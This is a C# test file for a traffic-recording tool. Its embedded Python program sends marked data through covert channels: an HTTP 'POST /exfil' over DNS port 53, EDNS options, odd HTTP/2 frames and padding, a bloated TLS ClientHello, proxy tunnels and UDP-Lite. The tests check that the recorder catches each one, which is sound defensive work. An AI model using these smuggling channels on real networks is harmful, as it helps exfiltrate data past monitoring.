using System.Net;
using System.Net.Sockets;
using Klikspaan.Recording.Receiving;

namespace Klikspaan.Tests.Recording;

/// <summary>What a program can send beside requests, questions and datagrams: none of it gets lost without a word.</summary>
public sealed class BesideTests(BesideTests.Hidden hidden) : IClassFixture<BesideTests.Hidden>
{
    [Theory]
    [InlineData("tcp53", "exchange")]
    [InlineData("tcp53-odd", "not-http")]
    [InlineData("tcp53-local", "dns")]
    [InlineData("udp53-raw", "datagrams")]
    [InlineData("udp53-edns", "dns")]
    [InlineData("unknown-frame", "not-http")]
    [InlineData("goaway", "not-http")]
    [InlineData("padding", "not-http")]
    [InlineData("trailers", "exchange")]
    [InlineData("hello", "tls-failure")]
    [InlineData("udplite", "attempt")]
    public async Task What_is_hidden_there_is_kept(string place, string kind)
    {
        var recorded = await hidden.Recorded();

        Assert.Contains($"HIDDEN-{place}.", recorded.Text, StringComparison.Ordinal);
        Assert.Contains(recorded.Of(kind), _ => true);
    }

    [Fact]
    public async Task Datagrams_that_are_no_question_are_counted_and_the_first_is_kept()
    {
        var recorded = await hidden.Recorded();

        var to = recorded.Of("datagrams").Where(d => d.GetProperty("destination").GetProperty("address").GetString() == "10.2.0.2").ToList();
        Assert.Equal(["1", "2"], to.Select(d => d.GetProperty("count").ToString()));
        Assert.DoesNotContain(recorded.Of("dns"), d => d.GetProperty("resolver").GetString() == "10.2.0.2:53");
        Assert.Contains("WARC-Target-URI: udp://10.2.0.2:53", recorded.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("lf")]
    [InlineData("mixed")]
    public async Task A_tunnel_that_is_asked_for_with_bare_line_ends_swallows_no_request(string ends)
    {
        var recorded = await hidden.Recorded();

        Assert.Contains($"WARC-Target-URI: http://inner-{ends}.example:8080/inside", recorded.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Plain_questions_are_answered_and_kept_in_words_alone()
    {
        var recorded = await hidden.Recorded();

        Assert.All(["plain-udp", "plain-tcp"], name => Assert.Equal("True", recorded.Said("SAID").GetProperty(name).ToString()));
        Assert.Equal(2, recorded.Of("dns").Count(d => d.GetProperty("name").GetString() == "plain.example"));
        Assert.DoesNotContain("\u0005plain\u0007example", recorded.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_record_of_it_meets_the_published_schema_and_is_read_without_problems()
    {
        var recorded = await hidden.Recorded();
        var schema = await NJsonSchema.JsonSchema.FromFileAsync(Repository.Path("docs", "schema", "recording.schema.json"), TestContext.Current.CancellationToken);

        Assert.All(recorded.Metadata, m => Assert.Empty(schema.Validate(m.GetRawText())));
        var problems = await hidden.Place.DoAsync("show", "problems", "--format", "csv", "--columns", "problem");
        Assert.All(problems.Lines[1..].Distinct(), p => Assert.Contains(p, new[] { "not-http", "tls-failure", "incomplete" }));
    }

    [Fact]
    public async Task Urgent_data_stand_among_the_others()
    {
        using var room = new SemaphoreSlim(1);
        await using var listener = await new SocketListeners(room).BindAsync(new IPEndPoint(IPAddress.Loopback, 0), TestContext.Current.CancellationToken);
        using var client = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        await client.ConnectAsync(listener.EndPoint, TestContext.Current.CancellationToken);
        await client.SendAsync("abc"u8.ToArray(), SocketFlags.None);
        client.Send("D"u8, SocketFlags.OutOfBand);
        await client.SendAsync("ef"u8.ToArray(), SocketFlags.None);
        client.Shutdown(SocketShutdown.Send);

        await using var accepted = await listener.AcceptAsync(TestContext.Current.CancellationToken);
        using var read = new MemoryStream();
        await accepted!.Transport.Input.CopyToAsync(read, TestContext.Current.CancellationToken);

        Assert.Equal("abcDef"u8.ToArray(), read.ToArray());
    }

    /// <summary>One recording of a program that hides things.</summary>
    public sealed class Hidden : IDisposable
    {
        Task<Recorded>? recorded;

        internal Workplace Place { get; } = new();

        internal Task<Recorded> Recorded() => recorded ??= RecordAsync();

        public void Dispose() => Place.Dispose();

        async Task<Recorded> RecordAsync()
        {
            await Isolated.RequireAsync("nft");
            Place.Write("p.py", Program);
            return await Isolated.RecordAsync(Place, null, ["-q", "--", "python3", "p.py"]);
        }
    }

    const string Program = """
        import json, socket, struct, time
        said = {}
        def hide(place, length=0): return (b'HIDDEN-' + place.encode() + b'.').ljust(length, b'x')
        def tcp(host, port): s = socket.create_connection((host, port), 10); s.settimeout(2); return s
        def hear(s):
            try: return s.recv(9999)
            except OSError: return b''
        s = tcp('10.2.0.1', 53); s.sendall(b'POST /exfil HTTP/1.1\r\nHost: e.example\r\nContent-Length: 60\r\n\r\n' + hide('tcp53', 60)); hear(s); s.close()
        s = tcp('10.2.0.1', 53); s.sendall(b'\0\1' + hide('tcp53-odd', 500)); s.close()
        s = tcp('127.0.0.53', 53); s.sendall(b'\1\0' + hide('tcp53-local', 256)); s.close()
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
        for n in range(3): u.sendto(hide('udp53-raw', 500), ('10.2.0.2', 53))
        time.sleep(.3)
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
        option = struct.pack('>HH', 65001, 1000) + hide('udp53-edns', 1000)
        u.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 1) + b'\3www\7example\0\0\1\0\1\0' + struct.pack('>HHIH', 41, 1232, 0, len(option)) + option, ('10.2.0.3', 53)); hear(u)
        plain = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 1) + b'\5plain\7example\0\0\1\0\1\0' + struct.pack('>HHIH', 41, 1232, 0, 0)
        u.sendto(plain, ('10.2.0.3', 53)); said['plain-udp'] = len(hear(u)) > 12
        s = tcp('10.2.0.3', 53); s.sendall(struct.pack('>H', len(plain)) + plain); said['plain-tcp'] = len(hear(s)) > 2; s.close()
        def frame(kind, flags, stream, payload=b''): return len(payload).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + payload
        def text(t): return (bytes([len(t)]) if len(t) < 127 else bytes([127, len(t) - 127 & 127 | 128, len(t) - 127 >> 7])) + t
        def fields(*all): return b''.join(b'\0' + text(n) + text(v) for n, v in all)
        def http2(host): s = tcp(host, 80); s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0)); return s
        usual = [(b':scheme', b'http'), (b':authority', b'e.example')]
        s = http2('10.3.0.1'); s.sendall(frame(0x2a, 0, 0, hide('unknown-frame', 4000)))
        s.sendall(frame(1, 4, 1, fields((b':method', b'POST'), (b':path', b'/pad'), *usual)) + frame(0, 9, 1, bytes([200]) + b'ok' + hide('padding', 200)))
        time.sleep(.3); s.sendall(frame(7, 0, 0, bytes(8) + hide('goaway', 800))); time.sleep(.3); s.close()
        s = http2('10.3.0.2'); s.sendall(frame(1, 4, 1, fields((b':method', b'CONNECT'), (b':protocol', b'websocket'), (b':path', b'/ws'), *usual)))
        time.sleep(.3); s.sendall(frame(1, 5, 1, fields((b'x-data', hide('trailers', 900))))); time.sleep(.3); s.close()
        def hello(name, data):
            more = b'\0\0' + struct.pack('>HHBH', len(name) + 5, len(name) + 3, 0, len(name)) + name + struct.pack('>HH', 0xfafa, len(data)) + data
            body = b'\3\3' + bytes(32) + b'\0\0\4\xc0\x2b\xc0\x2f\1\0' + struct.pack('>H', len(more)) + more
            return b'\x16\3\1' + struct.pack('>HBBH', len(body) + 4, 1, 0, len(body)) + body
        s = tcp('10.0.9.1', 443); s.sendall(hello(b'cdn.example', hide('hello', 12000))); hear(s); s.close()
        for name, end in (('lf', b'\n\n'), ('mixed', b'\r\n\n')):
            s = tcp('10.6.0.1', 3128); host = b'inner-' + name.encode() + b'.example'
            s.sendall(b'CONNECT ' + host + b':8080 HTTP/1.1' + end + b'GET /inside HTTP/1.1\r\nHost: ' + host + b':8080\r\nConnection: close\r\n\r\n'); hear(s); hear(s); s.close()
        socket.socket(2, 2, 136).sendto(hide('udplite'), ('10.9.9.9', 99))
        time.sleep(.5)
        print('SAID ' + json.dumps(said), flush=True)
        """;
}
